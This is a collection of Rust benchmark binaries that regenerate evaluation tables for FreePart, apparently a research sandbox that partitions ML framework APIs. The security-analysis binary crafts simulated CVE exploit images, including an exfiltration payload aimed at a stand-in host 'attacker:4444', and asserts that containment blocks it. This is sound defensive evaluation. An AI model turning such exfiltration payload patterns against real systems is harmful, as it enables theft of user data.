        (Framework::TensorFlow, ("82.6% (2236/2704)", "73%")),
    ]
    .into_iter()
    .collect();

    let mut t = Table::new([
        "Framework",
        "API coverage (measured)",
        "Code coverage (sim.)",
        "API coverage (paper)",
        "Code coverage (paper)",
    ]);
    for row in coverage_table(&reg, &corpus) {
        let Some((api_p, code_p)) = paper.get(&row.framework) else {
            continue;
        };
        t.row([
            row.framework.to_string(),
            format!(
                "{:.1}% ({}/{})",
                row.api_pct, row.apis_covered, row.apis_total
            ),
            format!("{:.1}%", row.code_pct),
            (*api_p).to_owned(),
            (*code_p).to_owned(),
        ]);
    }
    t.print("Table 11 — Dynamic-analysis coverage per framework");

    // The analysis quality under the partial corpus: still near-perfect
    // because uncovered APIs are statically transparent.
    let report = categorize(&reg, &corpus);
    println!(
        "\nHybrid categorization accuracy under the partial corpus: {:.1}%\n\
         (uncovered APIs fall back to static verdicts; the paper notes uncovered\n\
         APIs are unused by the evaluated programs).",
        report.accuracy(&reg) * 100.0
    );
}
