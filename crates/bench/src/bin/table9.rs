//! Regenerates **Table 9** (appendix A.1.2): IPC count, data
//! transferred, and runtime per scheme on the motivating example.

use freepart_baselines::SchemeKind;
use freepart_bench::{fmt, omr_run, Table};

fn main() {
    let base = omr_run(SchemeKind::Original);
    let mut t = Table::new(["Scheme", "# IPC", "Data", "Copy ops", "Time", "Overhead"]);
    for kind in SchemeKind::ALL {
        let r = omr_run(kind);
        t.row([
            kind.name().to_owned(),
            r.ipc.to_string(),
            fmt::bytes(r.transfer_bytes),
            r.copy_ops.to_string(),
            fmt::ms(r.time_ns),
            format!(
                "{:+.2}%",
                (r.time_ns as f64 / base.time_ns as f64 - 1.0) * 100.0
            ),
        ]);
    }
    t.print("Table 9 — Overhead of existing techniques and FreePart (measured)");
    println!(
        "\nPaper (Table 9, seconds / GB / IPCs): base 54.1s; Code API 54.3s 0.1GB 169;\n\
         Code API&Data 88.8s (+64%) 21.9GB; Entire Lib 54.9s (+1.5%) 0GB 12,411;\n\
         Individual APIs 121.8s (+125%) 42.7GB; Memory 54.1s; FreePart 55.6s (+2.8%)\n\
         0.4GB 12,411. Expected shape: per-API ≫ API&Data ≫ FreePart ≈ Entire ≈ Code API ≈ Memory."
    );
}
