//! Pipelined asynchronous execution benchmark.
//!
//! Flies the 30-frame drone mission three ways — the unprotected
//! Original, sequential FreePart, and pipelined FreePart on per-process
//! virtual timelines — and reports each mode's completion time. The
//! pipelined run submits every stage with `call_async`, so its makespan
//! collapses to the bottleneck stage while the steering commands stay
//! byte-identical to the synchronous mission.
//!
//! Results land in `BENCH_pipeline.json` at the repo root (hand-rolled
//! JSON; the suite carries no serde) and as a table on stdout.
//! Regenerate with:
//!
//! ```text
//! cargo run --release -p freepart-bench --bin pipeline
//! ```

use freepart_bench::fmt::pct;
use freepart_bench::{pipeline_comparison, workspace_root, PipelineRun, Table};

const FRAMES: u32 = 30;

fn json_escape(s: &str) -> String {
    s.replace('\\', "\\\\").replace('"', "\\\"")
}

fn to_json(rows: &[PipelineRun], speedup: f64) -> String {
    let mut out = format!(
        "{{\n  \"frames\": {FRAMES},\n  \"speedup_vs_sequential\": {speedup:.6},\n  \"runs\": [\n"
    );
    for (i, r) in rows.iter().enumerate() {
        out.push_str(&format!(
            "    {{\"mode\": \"{}\", \"time_ns\": {}, \"ipc\": {}, \
             \"timeline_merges\": {}, \"commands\": {}}}{}\n",
            json_escape(r.mode),
            r.time_ns,
            r.ipc,
            r.timeline_merges,
            r.commands.len(),
            if i + 1 == rows.len() { "" } else { "," }
        ));
    }
    out.push_str("  ]\n}\n");
    out
}

fn main() {
    let rows = pipeline_comparison(FRAMES);
    let base_ns = rows[0].time_ns.max(1);

    let mut table = Table::new(["Mode", "Time (ms)", "vs Original", "IPC", "Merges"]);
    for r in &rows {
        table.row([
            r.mode.to_owned(),
            format!("{:.3}", r.time_ns as f64 / 1e6),
            pct(r.time_ns as f64 / base_ns as f64 - 1.0),
            r.ipc.to_string(),
            r.timeline_merges.to_string(),
        ]);
    }
    table.print("Pipelined asynchronous partition execution (virtual time)");

    // The whole point of pipelining: same commands, much less makespan.
    for r in &rows[1..] {
        assert_eq!(r.commands, rows[0].commands, "{} diverged", r.mode);
    }
    let seq = rows
        .iter()
        .find(|r| r.mode == "FreePart (sequential)")
        .expect("sequential row");
    let pip = rows
        .iter()
        .find(|r| r.mode == "FreePart (pipelined)")
        .expect("pipelined row");
    let speedup = seq.time_ns as f64 / pip.time_ns.max(1) as f64;
    assert!(
        speedup >= 1.2,
        "pipelined speedup {speedup:.3} below the 1.2x floor"
    );
    println!("\npipelined vs sequential FreePart: {speedup:.3}x ✓");

    let json = to_json(&rows, speedup);
    let out = workspace_root().join("BENCH_pipeline.json");
    std::fs::write(&out, &json).expect("write BENCH_pipeline.json");
    println!("wrote {} ({} runs)", out.display(), rows.len());
}
