//! Regenerates the **§5 "Correctness" + §5.3 security analysis**:
//! every Table 5 CVE is exercised against FreePart; exfiltration and
//! corruption attacks are launched and judged.

use freepart::{Policy, Runtime};
use freepart_attacks::{judge, payloads, AttackGoal, Verdict};
use freepart_baselines::ApiSurface;
use freepart_bench::{cve_sweep, Table};
use freepart_frameworks::registry::standard_registry;
use freepart_frameworks::{fileio, image::Image, Value};

fn main() {
    // ---- per-CVE containment sweep ----
    let mut t = Table::new([
        "CVE",
        "API",
        "exploit fired",
        "host survived",
        "fully prevented",
    ]);
    let mut all_ok = true;
    for v in cve_sweep() {
        all_ok &= v.fired && v.host_survived && v.fully_prevented;
        let y = |b: bool| if b { "yes" } else { "NO" };
        t.row([
            v.id,
            v.api,
            y(v.fired),
            y(v.host_survived),
            y(v.fully_prevented),
        ]);
    }
    t.print("§5 Correctness — all Table 5 CVEs vs FreePart");
    println!(
        "\nAll attacks contained: {all_ok} (paper: all 18 CVEs mitigated, no false\n\
         negatives; benign runs produced no false positives — see the test suite's\n\
         benign-workload assertions)."
    );

    // ---- §5.3 data exfiltration ----
    let mut rt = Runtime::install(standard_registry(), Policy::freepart());
    let secret = rt.host_data("user-profiles", b"SECRET-PROFILE-DATA");
    let s_addr = rt.objects.meta(secret).unwrap().buffer.unwrap().0;
    let img = Image::new(16, 16, 3);
    rt.kernel.fs.put(
        "/exfil.simg",
        fileio::encode_image(
            &img,
            Some(&payloads::exfiltrate(
                "CVE-2017-12597",
                s_addr.0,
                19,
                "attacker:4444",
            )),
        ),
    );
    let _ = rt.call("cv2.imread", &[Value::from("/exfil.simg")]);
    let log = rt.exploit_log.clone();
    let (kernel, objects, host) = rt.attack_view();
    let v = judge(
        &AttackGoal::Exfiltrate {
            marker: b"SECRET-PROFILE".to_vec(),
        },
        kernel,
        objects,
        host,
        &log,
    );
    println!("\n§5.3 data exfiltration from the loading agent: {v:?} (paper: prevented —");
    println!("the secret lives in the host process AND the agent's filter has no send).");
    assert_eq!(v, Verdict::Prevented);

    // ---- §5.3 data corruption ----
    let mut rt = Runtime::install(standard_registry(), Policy::freepart());
    let cfg = rt.host_data("model-config", b"threshold=0.75;classes=10");
    let c_addr = rt.objects.meta(cfg).unwrap().buffer.unwrap().0;
    rt.kernel.fs.put(
        "/corrupt.simg",
        fileio::encode_image(
            &img,
            Some(&payloads::corrupt("CVE-2017-12606", c_addr.0, vec![0; 8])),
        ),
    );
    let _ = rt.call("cv2.imread", &[Value::from("/corrupt.simg")]);
    let log = rt.exploit_log.clone();
    let (kernel, objects, host) = rt.attack_view();
    let v = judge(
        &AttackGoal::CorruptObject {
            id: cfg,
            original: b"threshold=0.75;classes=10".to_vec(),
        },
        kernel,
        objects,
        host,
        &log,
    );
    println!("\n§5.3 data corruption of host configuration: {v:?} (paper: prevented).");
    assert_eq!(v, Verdict::Prevented);
}
