//! Hooked-call **data-plane hot path** benchmark.
//!
//! Drives the two end-to-end pipelines — the OMR grader and the drone
//! control loop — under every scheme in [`SchemeKind::ALL`] plus
//! FreePart with lazy data copy disabled, and reports each run's
//! virtual time as overhead relative to the monolithic original.
//!
//! Results land in `BENCH_hotpath.json` at the repo root (hand-rolled
//! JSON; the suite carries no serde) and as a table on stdout.
//! Regenerate with:
//!
//! ```text
//! cargo run --release -p freepart-bench --bin hotpath
//! ```

use freepart::Policy;
use freepart_apps::{batched, drone, omr};
use freepart_baselines::{build, ApiSurface, SchemeKind};
use freepart_bench::experiments::omr_workload;
use freepart_bench::fmt::pct;
use freepart_bench::{drone_universe, drone_workload, fast_install, workspace_root, Table};
use freepart_frameworks::api::ApiId;
use freepart_frameworks::registry::standard_registry;

/// One scheme × pipeline measurement.
struct Run {
    scheme: &'static str,
    pipeline: &'static str,
    time_ns: u64,
    ipc: u64,
    transfer_bytes: u64,
    copy_ops: u64,
    processes: usize,
    /// `time / original_time - 1`; 0 for the baseline itself.
    overhead: f64,
}

/// Runs one pipeline on a surface and returns its metrics row.
fn measure(scheme: &'static str, pipeline: &'static str, surface: &mut dyn ApiSurface) -> Run {
    surface.kernel_mut().reset_accounting();
    match pipeline {
        "omr" => {
            let r = omr::run(surface, &omr_workload());
            assert!(r.completed > 0, "workload must actually run");
        }
        "drone" => {
            let r = drone::run(surface, &drone_workload());
            assert!(r.frames_processed > 0, "workload must actually run");
        }
        _ => unreachable!(),
    }
    let m = surface.kernel().metrics();
    Run {
        scheme,
        pipeline,
        time_ns: surface.kernel().clock().now_ns(),
        ipc: m.ipc_messages,
        transfer_bytes: m.total_transfer_bytes(),
        copy_ops: m.copy_ops,
        processes: surface.process_count(),
        overhead: 0.0,
    }
}

/// Runs one pipeline through the asynchronous batched-submission driver
/// under an explicit policy: same calls, same results, coalesced
/// frames. Serves both the static batched preset and the adaptive
/// controller (whose warmup knobs *are* the batched preset). The
/// drivers take the concrete [`freepart::Runtime`] (they drive the
/// asynchronous interface), so they get their own measure path; the
/// global clock stays the time measure, as in `measure`.
fn measure_batched(scheme: &'static str, policy: Policy, pipeline: &'static str) -> Run {
    let adaptive = policy.adaptive.is_some();
    let mut rt = fast_install(policy);
    rt.kernel.reset_accounting();
    match pipeline {
        "omr" => {
            let r = batched::run_omr_batched(&mut rt, &omr_workload());
            assert!(r.completed > 0, "workload must actually run");
            assert!(r.errors.is_empty(), "benign run must be error-free");
        }
        "drone" => {
            let r = batched::run_drone_batched(&mut rt, &drone_workload());
            assert!(r.frames_processed > 0, "workload must actually run");
        }
        _ => unreachable!(),
    }
    let m = rt.kernel.metrics();
    assert!(m.calls_batched > 0, "calls actually rode in batches");
    if adaptive {
        let decisions = rt.tracer().policy_decisions();
        assert!(
            !decisions.is_empty(),
            "controller must reach decision points"
        );
        assert!(
            decisions.iter().any(|d| d.changed),
            "controller must actually move a knob on this workload"
        );
    }
    Run {
        scheme,
        pipeline,
        time_ns: rt.kernel.clock().now_ns(),
        ipc: m.ipc_messages,
        transfer_bytes: m.total_transfer_bytes(),
        copy_ops: m.copy_ops,
        processes: rt.process_count(),
        overhead: 0.0,
    }
}

fn pipeline_runs(pipeline: &'static str, universe: &[ApiId]) -> Vec<Run> {
    let mut rows = Vec::new();
    for kind in SchemeKind::ALL {
        let mut surface = build(kind, standard_registry(), universe);
        rows.push(measure(kind.name(), pipeline, surface.as_mut()));
    }
    // FreePart with eager (through-host) copies instead of LDC.
    let mut rt = fast_install(Policy::without_ldc());
    rows.push(measure("FreePart (no LDC)", pipeline, &mut rt));
    // FreePart with large payloads page-mapped via shared memory.
    let mut rt = fast_install(Policy::freepart_shm());
    rows.push(measure("FreePart (shm)", pipeline, &mut rt));
    // FreePart with same-partition call bursts coalesced into single
    // IPC frames.
    rows.push(measure_batched(
        "FreePart (batched)",
        Policy::freepart_batched(),
        pipeline,
    ));
    // FreePart with the closed-loop controller picking transport,
    // batch window, and pipeline window per partition at runtime.
    rows.push(measure_batched(
        "FreePart (adaptive)",
        Policy::freepart_adaptive(),
        pipeline,
    ));

    let base_ns = rows
        .iter()
        .find(|r| r.scheme == SchemeKind::Original.name())
        .expect("original baseline present")
        .time_ns
        .max(1);
    for r in &mut rows {
        r.overhead = r.time_ns as f64 / base_ns as f64 - 1.0;
    }
    rows
}

fn json_escape(s: &str) -> String {
    s.replace('\\', "\\\\").replace('"', "\\\"")
}

fn to_json(rows: &[Run]) -> String {
    let mut out = String::from("{\n  \"runs\": [\n");
    for (i, r) in rows.iter().enumerate() {
        out.push_str(&format!(
            "    {{\"scheme\": \"{}\", \"pipeline\": \"{}\", \"time_ns\": {}, \
             \"overhead_vs_original\": {:.6}, \"ipc\": {}, \"transfer_bytes\": {}, \
             \"copy_ops\": {}, \"processes\": {}}}{}\n",
            json_escape(r.scheme),
            r.pipeline,
            r.time_ns,
            r.overhead,
            r.ipc,
            r.transfer_bytes,
            r.copy_ops,
            r.processes,
            if i + 1 == rows.len() { "" } else { "," }
        ));
    }
    out.push_str("  ]\n}\n");
    out
}

fn main() {
    let reg = standard_registry();
    let mut rows = pipeline_runs("omr", &omr::omr_universe(&reg));
    rows.extend(pipeline_runs("drone", &drone_universe(&reg)));

    let mut table = Table::new([
        "Pipeline",
        "Scheme",
        "Time (ms)",
        "Overhead",
        "IPC",
        "Copies",
        "Procs",
    ]);
    for r in &rows {
        table.row([
            r.pipeline.to_owned(),
            r.scheme.to_owned(),
            format!("{:.3}", r.time_ns as f64 / 1e6),
            pct(r.overhead),
            r.ipc.to_string(),
            r.copy_ops.to_string(),
            r.processes.to_string(),
        ]);
    }
    table.print("Hooked-call data-plane overhead (virtual time)");

    // The whole point of LDC: on the OMR pipeline, lazy copies must not
    // be slower than eager through-host copies.
    let omr_time = |scheme: &str| {
        rows.iter()
            .find(|r| r.pipeline == "omr" && r.scheme == scheme)
            .expect("row present")
            .time_ns
    };
    let ldc = omr_time(SchemeKind::FreePart.name());
    let eager = omr_time("FreePart (no LDC)");
    assert!(
        ldc <= eager,
        "LDC regressed: {ldc} ns with LDC vs {eager} ns eager"
    );
    println!("\nLDC check: {ldc} ns (lazy) <= {eager} ns (eager) ✓");

    // The whole point of shm: page-mapping large payloads must move
    // strictly fewer bytes across address spaces than LDC copies.
    let omr_bytes = |scheme: &str| {
        rows.iter()
            .find(|r| r.pipeline == "omr" && r.scheme == scheme)
            .expect("row present")
            .transfer_bytes
    };
    let shm_bytes = omr_bytes("FreePart (shm)");
    let ldc_bytes = omr_bytes(SchemeKind::FreePart.name());
    assert!(
        shm_bytes < ldc_bytes,
        "shm transport regressed: {shm_bytes} bytes shm vs {ldc_bytes} bytes LDC"
    );
    println!("shm check: {shm_bytes} bytes (shm) < {ldc_bytes} bytes (LDC copies) ✓");

    // The whole point of batching: coalescing same-partition bursts must
    // cut OMR's frame count to at most 60% of the per-call plane without
    // costing any virtual time.
    let omr_row = |scheme: &str| {
        rows.iter()
            .find(|r| r.pipeline == "omr" && r.scheme == scheme)
            .expect("row present")
    };
    let batched = omr_row("FreePart (batched)");
    let unbatched = omr_row(SchemeKind::FreePart.name());
    assert!(
        batched.ipc * 10 <= unbatched.ipc * 6,
        "batching regressed: {} frames batched vs {} unbatched (need <= 60%)",
        batched.ipc,
        unbatched.ipc
    );
    assert!(
        batched.time_ns <= unbatched.time_ns,
        "batching cost time: {} ns batched vs {} ns unbatched",
        batched.time_ns,
        unbatched.time_ns
    );
    println!(
        "batch check: {} frames ({} ns) vs {} frames ({} ns) unbatched ✓",
        batched.ipc, batched.time_ns, unbatched.ipc, unbatched.time_ns
    );

    // The whole point of the controller: self-tuned knobs must never
    // cost more virtual time than the best hand-tuned static preset
    // (batched) — on either pipeline.
    for pipeline in ["omr", "drone"] {
        let row = |scheme: &str| {
            rows.iter()
                .find(|r| r.pipeline == pipeline && r.scheme == scheme)
                .expect("row present")
        };
        let adaptive = row("FreePart (adaptive)");
        let batched = row("FreePart (batched)");
        assert!(
            adaptive.time_ns <= batched.time_ns,
            "adaptive regressed on {pipeline}: {} ns adaptive vs {} ns batched",
            adaptive.time_ns,
            batched.time_ns
        );
        println!(
            "adaptive check ({pipeline}): {} ns (adaptive) <= {} ns (batched) ✓",
            adaptive.time_ns, batched.time_ns
        );
    }

    let json = to_json(&rows);
    let out = workspace_root().join("BENCH_hotpath.json");
    std::fs::write(&out, &json).expect("write BENCH_hotpath.json");
    println!("wrote {} ({} runs)", out.display(), rows.len());
}
