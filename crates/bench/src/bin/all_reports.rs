//! Runs every table/figure report binary in sequence — the one-shot
//! "regenerate the whole evaluation" entry point.

use std::process::Command;

fn main() {
    let bins = [
        "table1",
        "table2",
        "table3",
        "table4",
        "table5",
        "table6",
        "table7",
        "table8",
        "table9",
        "table10",
        "table11",
        "table12",
        "fig3",
        "fig4",
        "fig6",
        "fig7",
        "fig13",
        "security_analysis",
        "case_studies",
        "ablations",
    ];
    let exe = std::env::current_exe().expect("own path");
    let dir = exe.parent().expect("bin dir");
    let mut failed = Vec::new();
    for bin in bins {
        println!("\n########################################################");
        println!("# {bin}");
        println!("########################################################");
        let status = Command::new(dir.join(bin))
            .status()
            .unwrap_or_else(|e| panic!("failed to spawn {bin}: {e}"));
        if !status.success() {
            failed.push(bin);
        }
    }
    if failed.is_empty() {
        println!("\nAll reports regenerated successfully.");
    } else {
        eprintln!("\nFAILED reports: {failed:?}");
        std::process::exit(1);
    }
}
