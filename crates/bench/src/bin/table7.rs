//! Regenerates **Table 7**: system calls allowed for each agent type
//! (per-type allowlist unions from the hybrid analysis).

use freepart_bench::{table7_allowlists, Table};

fn main() {
    let lists = table7_allowlists();
    let mut t = Table::new(["Type (count)", "Allowed system calls"]);
    for (ty, names) in &lists {
        let shown = names
            .iter()
            .take(10)
            .copied()
            .collect::<Vec<_>>()
            .join(", ");
        t.row([format!("{ty} ({})", names.len()), format!("{shown}, ...")]);
    }
    t.print("Table 7 — System calls allowed per agent type (measured)");
    println!(
        "\nPaper (Table 7): Loading 43, Processing 22, Visualizing 56, Storing 27.\n\
         Our simulated syscall surface is smaller (~50 syscalls total), so absolute\n\
         counts are lower; the *shape* holds: visualizing needs connect/send,\n\
         processing needs neither, and no list contains fork or kill."
    );
    for (ty, names) in &lists {
        let has = |n: &str| names.contains(&n);
        assert!(!has("fork") && !has("kill"), "{ty}: fork/kill leaked in");
    }
    let viz = &lists[&freepart_frameworks::api::ApiType::Visualizing];
    assert!(viz.contains(&"connect"));
    let dp = &lists[&freepart_frameworks::api::ApiType::DataProcessing];
    assert!(!dp.contains(&"send") && !dp.contains(&"connect"));
    println!("Invariant checks passed.");
}
