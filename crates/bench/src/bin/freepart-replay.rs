//! Flight-recorder **record → replay → audit** bench.
//!
//! Records the two drone attack scenarios (DoS frame, speed-corruption
//! frame) under `Policy::freepart_recorded()`, replays each commit log
//! against a fresh kernel asserting digest-identical state at every
//! step, runs the kernel- and runtime-level invariant auditors, walks
//! the forensic chain back from every crash, and re-derives the attack
//! verdicts from the replayed kernel alone — proving the verdicts are
//! reproducible from the log, not just observable live.
//!
//! Results land in `BENCH_replay.json` at the repo root (hand-rolled
//! JSON; the suite carries no serde) and as a table on stdout.
//! Regenerate with:
//!
//! ```text
//! cargo run --release -p freepart-bench --bin freepart-replay
//! ```

use freepart::{
    crash_forensics, journal_exactly_once, transition_windows, w_grant_discipline, Policy, Runtime,
};
use freepart_apps::drone::{self, DroneConfig};
use freepart_attacks::payloads;
use freepart_bench::{workspace_root, Table};
use freepart_frameworks::registry::standard_registry;
use freepart_simos::core::step;
use freepart_simos::replay::{audit, replay};
use freepart_simos::{CommitLog, Effects, FaultKind, KernelState};

/// One recorded-and-replayed attack scenario.
struct Scenario {
    name: &'static str,
    /// Commit records in the log.
    commits: u64,
    /// Replay steps that diverged from the recorded digests.
    divergences: usize,
    /// Kernel-level invariant violations (`freepart_simos::replay::audit`).
    kernel_violations: usize,
    /// Runtime-level discipline violations (grant sweep, journal).
    runtime_violations: usize,
    /// Involuntary deaths found in the log.
    crashes: usize,
    /// Provenance-chain length of the attack's crash.
    forensic_chain_len: usize,
    /// Did the live run survive the attack (control loop alive)?
    verdict_live: bool,
    /// Does the replayed kernel agree (host running, attack fault
    /// present in the log with the expected kind)?
    verdict_replay: bool,
}

/// Raw pure-`step` throughput: folds the recorded log through a fresh
/// [`KernelState`] `iters` times and reports (total steps, steps/sec).
fn step_throughput(log: &CommitLog, iters: u32) -> (u64, f64) {
    let mut fx = Effects::new();
    let mut total: u64 = 0;
    let start = std::time::Instant::now();
    for _ in 0..iters {
        let mut state = KernelState::with_cost_model(log.genesis().clone());
        for rec in log.records() {
            fx.clear();
            let _ = step(&mut state, rec.op.clone(), &mut fx);
            total += 1;
        }
        std::hint::black_box(state.digest());
    }
    let secs = start.elapsed().as_secs_f64().max(1e-9);
    (total, total as f64 / secs)
}

/// Records one drone mission, replays it, audits it, and reports the
/// scenario alongside its detached commit log.
fn record_and_replay(
    name: &'static str,
    cfg: &DroneConfig,
    expect_fault: FaultKind,
) -> (Scenario, CommitLog) {
    let mut rt = Runtime::install(standard_registry(), Policy::freepart_recorded());
    rt.enable_tracing();
    let result = drone::run(&mut rt, cfg);
    let host = rt.host_pid();
    let live_digest = rt.kernel.state_digest();
    let log = rt.kernel.take_commit_log().expect("recording was on");

    // Digest-identical replay from the log alone.
    let (rebuilt, report) = replay(&log);
    assert_eq!(report.steps, log.len(), "{name}: replay must cover the log");
    assert!(
        report.is_clean(),
        "{name}: replay diverged: {:?}",
        report.divergences
    );
    assert_eq!(
        rebuilt.state_digest(),
        live_digest,
        "{name}: rebuilt kernel must match the live final state"
    );

    // Kernel-level whole-trace invariants.
    let kernel_violations = audit(&log);
    assert!(
        kernel_violations.is_empty(),
        "{name}: honest log flagged: {kernel_violations:?}"
    );

    // Runtime-level disciplines, joined through the tracer's windows.
    let windows = transition_windows(rt.tracer());
    let mut runtime_violations = w_grant_discipline(&log, &windows, host);
    runtime_violations.extend(journal_exactly_once(rt.tracer()));
    assert!(
        runtime_violations.is_empty(),
        "{name}: discipline violated: {runtime_violations:?}"
    );

    // Forensics: the attack's crash and its provenance chain.
    let crashes = crash_forensics(&log);
    let attack_crash = crashes
        .iter()
        .find(|c| c.kind == expect_fault)
        .unwrap_or_else(|| panic!("{name}: expected a {expect_fault:?} crash in the log"));

    // The verdict, re-derived from the replayed kernel alone: the host
    // (control loop) survived, and the attack died inside an agent.
    let verdict_replay = rebuilt.is_running(host) && attack_crash.pid != host;

    let scenario = Scenario {
        name,
        commits: log.len(),
        divergences: report.divergences.len(),
        kernel_violations: kernel_violations.len(),
        runtime_violations: runtime_violations.len(),
        crashes: crashes.len(),
        forensic_chain_len: attack_crash.chain.len(),
        verdict_live: result.control_loop_alive,
        verdict_replay,
    };
    (scenario, log)
}

fn to_json(rows: &[Scenario], throughput: &[(&str, u64, f64)]) -> String {
    let mut out = String::from("{\n  \"scenarios\": [\n");
    for (i, r) in rows.iter().enumerate() {
        out.push_str(&format!(
            "    {{\"name\": \"{}\", \"commits\": {}, \"divergences\": {}, \
             \"kernel_violations\": {}, \"runtime_violations\": {}, \
             \"crashes\": {}, \"forensic_chain_len\": {}, \
             \"verdict_live\": {}, \"verdict_replay\": {}, \
             \"verdict_reproduced\": {}}}{}\n",
            r.name,
            r.commits,
            r.divergences,
            r.kernel_violations,
            r.runtime_violations,
            r.crashes,
            r.forensic_chain_len,
            r.verdict_live,
            r.verdict_replay,
            r.verdict_live == r.verdict_replay,
            if i + 1 < rows.len() { "," } else { "" }
        ));
    }
    let min = throughput
        .iter()
        .map(|&(_, _, sps)| sps)
        .fold(f64::INFINITY, f64::min);
    out.push_str("  ],\n  \"step_throughput\": {\"logs\": [\n");
    for (i, (log_name, steps, steps_per_sec)) in throughput.iter().enumerate() {
        out.push_str(&format!(
            "    {{\"log\": \"{log_name}\", \"steps\": {steps}, \
             \"steps_per_sec\": {steps_per_sec:.1}}}{}\n",
            if i + 1 < throughput.len() { "," } else { "" }
        ));
    }
    out.push_str(&format!("  ], \"min_steps_per_sec\": {min:.1}}}\n}}\n"));
    out
}

fn main() {
    // Scenario 1 — DoS: a poisoned frame crashes the loading agent; the
    // supervisor restarts it and the mission keeps flying.
    let (dos, dos_log) = record_and_replay(
        "drone_dos",
        &DroneConfig {
            frames: 5,
            evil_frame: Some((2, payloads::dos("CVE-2017-14136"))),
        },
        FaultKind::Abort,
    );

    // Scenario 2 — speed corruption: the exploit's write lands on a
    // temporally-protected page and faults instead of flipping the
    // steering sign. The target address comes from an identical probe
    // mission (deterministic layout).
    let addr = {
        let mut probe = Runtime::install(standard_registry(), Policy::freepart_recorded());
        let r = drone::run(
            &mut probe,
            &DroneConfig {
                frames: 0,
                evil_frame: None,
            },
        );
        probe.objects.meta(r.speed).unwrap().buffer.unwrap().0
    };
    let evil_speed = (-0.3f64).to_le_bytes().to_vec();
    let (corrupt, corrupt_log) = record_and_replay(
        "drone_corruption",
        &DroneConfig {
            frames: 4,
            evil_frame: Some((1, payloads::corrupt("CVE-2017-12606", addr.0, evil_speed))),
        },
        FaultKind::Protection,
    );

    let rows = [dos, corrupt];
    let mut table = Table::new([
        "scenario",
        "commits",
        "diverg.",
        "kernel viol.",
        "runtime viol.",
        "crashes",
        "chain len",
        "verdict",
    ]);
    for r in &rows {
        table.row([
            r.name.to_string(),
            r.commits.to_string(),
            r.divergences.to_string(),
            r.kernel_violations.to_string(),
            r.runtime_violations.to_string(),
            r.crashes.to_string(),
            r.forensic_chain_len.to_string(),
            if r.verdict_live && r.verdict_replay {
                "survived (reproduced)".into()
            } else {
                "MISMATCH".into()
            },
        ]);
    }
    table.print("flight recorder: record → replay → audit");

    for r in &rows {
        assert_eq!(r.divergences, 0, "{}: replay diverged", r.name);
        assert_eq!(r.kernel_violations + r.runtime_violations, 0);
        assert!(
            r.verdict_live && r.verdict_replay,
            "{}: verdict not reproduced from the log",
            r.name
        );
        assert!(r.forensic_chain_len >= 2, "{}: thin chain", r.name);
    }

    // Raw pure-step throughput over BOTH recorded logs: replay cost
    // with no shell, no commit log, no divergence checks — just the
    // fold every replay-based tool pays per step. Folding only one log
    // would let a regression on the other scenario's op mix slip by,
    // so the JSON carries each log's rate plus the min across logs.
    let mut throughput = Vec::new();
    for (log_name, log) in [("drone_dos", &dos_log), ("drone_corruption", &corrupt_log)] {
        let (steps, steps_per_sec) = step_throughput(log, 200);
        println!(
            "\npure-step throughput: {steps} steps over 200 replays of \
             {log_name} ({steps_per_sec:.0} steps/sec)"
        );
        throughput.push((log_name, steps, steps_per_sec));
    }

    let json = to_json(&rows, &throughput);
    let out = workspace_root().join("BENCH_replay.json");
    std::fs::write(&out, &json).expect("write BENCH_replay.json");
    println!("wrote {} ({} scenarios)", out.display(), rows.len());
}
