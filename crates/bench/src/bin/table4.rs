//! Regenerates **Table 4**: example API-type categorization per
//! framework, as recovered by the hybrid analysis.

use freepart_analysis::{categorize, TestCorpus};
use freepart_bench::Table;
use freepart_frameworks::api::{ApiType, Framework};
use freepart_frameworks::registry::standard_registry;

fn main() {
    let reg = standard_registry();
    let report = categorize(&reg, &TestCorpus::full(&reg));
    let mut t = Table::new(["Framework", "Type", "Functions / Classes (first few)"]);
    for fw in [
        Framework::OpenCv,
        Framework::Caffe,
        Framework::PyTorch,
        Framework::TensorFlow,
    ] {
        for ty in ApiType::ALL {
            let names: Vec<&str> = reg
                .of_framework(fw)
                .iter()
                .filter(|s| report.type_of(s.id) == ty)
                .map(|s| s.name.as_str())
                .take(3)
                .collect();
            if names.is_empty() {
                continue;
            }
            t.row([
                fw.to_string(),
                ty.short().to_owned(),
                format!("{}, ...", names.join(", ")),
            ]);
        }
    }
    t.print("Table 4 — API type categorization examples (hybrid analysis output)");
    println!(
        "\nAs in the paper, Caffe/PyTorch/TensorFlow contribute no visualizing APIs;\n\
         accuracy vs ground truth: {:.1}%",
        report.accuracy(&reg) * 100.0
    );
}
