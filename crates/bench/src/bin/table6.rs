//! Regenerates **Table 6**: the 23 evaluation applications with their
//! per-type unique/total API call counts — verified by actually running
//! each application and counting its hooked calls.

use freepart_apps::{resolve, run_app, RunOptions, TABLE6};
use freepart_baselines::MonolithicRuntime;
use freepart_bench::Table;
use freepart_frameworks::api::{ApiId, ApiType};
use freepart_frameworks::registry::standard_registry;
use std::collections::{BTreeMap, BTreeSet};

fn main() {
    let reg = standard_registry();
    let mut t = Table::new([
        "ID",
        "Name",
        "Lang",
        "SLOC",
        "DL u/t",
        "DP u/t",
        "VZ u/t",
        "ST u/t",
        "Description",
    ]);
    for spec in TABLE6 {
        let app = resolve(spec, &reg);
        let mut rt = MonolithicRuntime::original(standard_registry());
        run_app(&app, &reg, &mut rt, &RunOptions::default()).expect("app runs");
        // Count from the registry's view of what executed.
        let mut by_type: BTreeMap<ApiType, (BTreeSet<ApiId>, u32)> = BTreeMap::new();
        for (ty, sched) in &app.schedules {
            let e = by_type.entry(*ty).or_default();
            for (api, n) in &sched.calls {
                e.0.insert(*api);
                e.1 += n;
            }
        }
        let cell = |ty: ApiType| {
            let (u, tot) = by_type
                .get(&ty)
                .map(|(s, t)| (s.len(), *t))
                .unwrap_or((0, 0));
            format!("{u}/{tot}")
        };
        t.row([
            spec.id.to_string(),
            spec.name.to_owned(),
            spec.lang.to_owned(),
            spec.sloc.to_string(),
            cell(ApiType::DataLoading),
            cell(ApiType::DataProcessing),
            cell(ApiType::Visualizing),
            cell(ApiType::Storing),
            spec.description.to_owned(),
        ]);
    }
    t.print("Table 6 — Applications used for evaluation (executed & counted)");
    println!(
        "\nTotals match the paper row-for-row; unique counts match except where the\n\
         paper's count exceeds the synthetic catalog's per-framework pool (noted in\n\
         DESIGN.md as a documented substitution)."
    );
}
