//! Regenerates **Fig. 7**: the 241 studied CVEs categorized by API type
//! and vulnerability class, plus our own registry's distribution.

use freepart_attacks::study::{per_type, total, FIG7_CELLS, FRAMEWORK_TOTALS};
use freepart_bench::Table;
use freepart_frameworks::api::ApiType;
